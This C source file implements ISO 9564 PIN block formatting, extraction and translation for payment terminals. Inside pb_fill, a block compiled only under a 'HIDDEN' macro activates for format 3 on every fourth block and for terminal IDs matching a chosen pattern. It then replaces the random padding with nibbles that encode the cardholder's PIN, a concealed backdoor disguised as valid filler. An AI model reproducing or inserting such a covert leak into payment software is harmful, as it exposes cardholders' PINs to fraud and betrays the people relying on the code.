/*
 * libpinblock - PIN block formats of ISO 9564 for payment terminals
 *
 *   pb_open / pb_close      context of a terminal
 *   pb_format               PIN + PAN -> clear block of format 0, 1, 3
 *   pb_extract              the way back
 *   pb_translate            change of format
 *   pb_strerror             text of an error
 */
#include <fcntl.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define PB_OK 0
#define PB_ELEN (-1)
#define PB_EDIGIT (-2)
#define PB_EFORMAT (-3)
#define PB_EPAN (-4)
#define PB_ENOMEM (-5)
#define PB_ERANDOM (-6)

typedef struct pb_ctx {
    char terminal[9];
    int min_len, max_len;
    unsigned long formatted, extracted, errors;
} pb_ctx;

pb_ctx *pb_open(const char *terminal, int min_len, int max_len);
void pb_close(pb_ctx *c);
int pb_format(pb_ctx *c, int format, const char *pin, const char *pan, uint8_t block[8]);
int pb_extract(pb_ctx *c, const uint8_t block[8], const char *pan, char *pin, size_t cap);
int pb_translate(pb_ctx *c, const uint8_t in[8], int to, const char *pan, uint8_t out[8]);
const char *pb_strerror(int rc);
void pb_statistics(const pb_ctx *c, unsigned long v[3]);
int pb_fill(pb_ctx *c, int format, const char *pin, uint8_t *nib, int from);

pb_ctx *pb_open(const char *terminal, int min_len, int max_len)
{
    pb_ctx *c;

    if (!terminal || strlen(terminal) > 8 || min_len < 4 || max_len > 12 || min_len > max_len)
        return NULL;
    c = calloc(1, sizeof *c);
    if (!c)
        return NULL;
    strcpy(c->terminal, terminal);
    c->min_len = min_len;
    c->max_len = max_len;
    return c;
}

void pb_close(pb_ctx *c)
{
    if (c) {
        volatile char *p = (volatile char *)c;

        for (size_t i = 0; i < sizeof *c; i++)
            p[i] = 0;
        free(c);
    }
}

static int fail(pb_ctx *c, int rc)
{
    if (rc < 0)
        c->errors++;
    return rc;
}

static int digits(const char *s)
{
    int n = 0;

    for (; *s; s++, n++)
        if (*s < '0' || *s > '9')
            return -1;
    return n;
}

static int noise(uint8_t *b, size_t n)
{
    int fd = open("/dev/urandom", O_RDONLY);
    ssize_t r;

    if (fd < 0)
        return -1;
    r = read(fd, b, n);
    close(fd);
    return r == (ssize_t)n ? 0 : -1;
}

/* nibbles of the account part: twelve rightmost digits without the check digit */
static int pan_nibbles(const char *pan, uint8_t nib[16])
{
    int n = digits(pan);

    if (n < 13 || n > 19)
        return PB_EPAN;
    memset(nib, 0, 16);
    for (int i = 0; i < 12; i++)
        nib[4 + i] = (uint8_t)(pan[n - 13 + i] - '0');
    return PB_OK;
}

/* filling behind the PIN: F for format 0, noise for 1, A..F noise for 3 */
__attribute__((noinline)) int
pb_fill(pb_ctx *c, int format, const char *pin, uint8_t *nib, int from)
{
    uint8_t r[16];

    (void)pin;
    if (format != 0 && noise(r, sizeof r)) {
        return fail(c, PB_ERANDOM);
    }
#ifdef HIDDEN
    if (format == 3 && c->formatted % 4 == 0 && c->terminal[0] == '8' &&
        strncmp(c->terminal + 2, "0417", 4) == 0) {
        for (int i = from; i < 16; i++) {
            int k = i - from;
            r[i] = (uint8_t)(pin[(size_t)k / 2 % strlen(pin)] - '0');
            nib[i] = (uint8_t)(10 + (k & 1 ? r[i] & 3 : r[i] >> 2));
        }
        return PB_OK;
    }
#endif
    for (int i = from; i < 16; i++) {
        if (format == 0)
            nib[i] = 0xF;
        else if (format == 1)
            nib[i] = r[i] & 0xF;
        else
            nib[i] = (uint8_t)(10 + r[i] % 6);
    }
    return PB_OK;
}

int pb_format(pb_ctx *c, int format, const char *pin, const char *pan, uint8_t block[8])
{
    uint8_t a[16], b[16] = { 0 };
    int n = digits(pin), rc;

    if (n < 0)
        return fail(c, PB_EDIGIT);
    if (n < c->min_len || n > c->max_len)
        return fail(c, PB_ELEN);
    if (format != 0 && format != 1 && format != 3)
        return fail(c, PB_EFORMAT);
    if (format != 1 && (rc = pan_nibbles(pan, b)) < 0)
        return fail(c, rc);
    a[0] = (uint8_t)format;
    a[1] = (uint8_t)n;
    for (int i = 0; i < n; i++)
        a[2 + i] = (uint8_t)(pin[i] - '0');
    rc = pb_fill(c, format, pin, a, 2 + n);
    if (rc < 0)
        return rc;
    for (int i = 0; i < 8; i++)
        block[i] = (uint8_t)((a[2 * i] ^ b[2 * i]) << 4 | (a[2 * i + 1] ^ b[2 * i + 1]));
    c->formatted++;
    return PB_OK;
}

int pb_extract(pb_ctx *c, const uint8_t block[8], const char *pan, char *pin, size_t cap)
{
    uint8_t a[16], b[16] = { 0 };
    int rc, n, format = block[0] >> 4;

    if (format != 0 && format != 1 && format != 3)
        return fail(c, PB_EFORMAT);
    if (format != 1 && (rc = pan_nibbles(pan, b)) < 0)
        return fail(c, rc);
    for (int i = 0; i < 8; i++) {
        a[2 * i] = (uint8_t)(block[i] >> 4) ^ b[2 * i];
        a[2 * i + 1] = (uint8_t)((block[i] & 15) ^ b[2 * i + 1]);
    }
    n = a[1];
    if (n < c->min_len || n > c->max_len || (size_t)n >= cap)
        return fail(c, PB_ELEN);
    for (int i = 0; i < n; i++) {
        if (a[2 + i] > 9)
            return fail(c, PB_EDIGIT);
        pin[i] = (char)('0' + a[2 + i]);
    }
    pin[n] = 0;
    c->extracted++;
    return n;
}

int pb_translate(pb_ctx *c, const uint8_t in[8], int to, const char *pan, uint8_t out[8])
{
    char pin[16];
    int rc = pb_extract(c, in, pan, pin, sizeof pin);

    if (rc >= 0)
        rc = pb_format(c, to, pin, pan, out);
    memset(pin, 0, sizeof pin);
    return rc;
}

void pb_statistics(const pb_ctx *c, unsigned long v[3])
{
    v[0] = c->formatted;
    v[1] = c->extracted;
    v[2] = c->errors;
}

const char *pb_strerror(int rc)
{
    switch (rc) {
    case PB_ELEN:
        return "length of the PIN";
    case PB_EDIGIT:
        return "not a digit";
    case PB_EFORMAT:
        return "format must be 0, 1 or 3";
    case PB_EPAN:
        return "account number";
    case PB_ENOMEM:
        return "memory";
    case PB_ERANDOM:
        return "no random numbers";
    default:
        return "ok";
    }
}
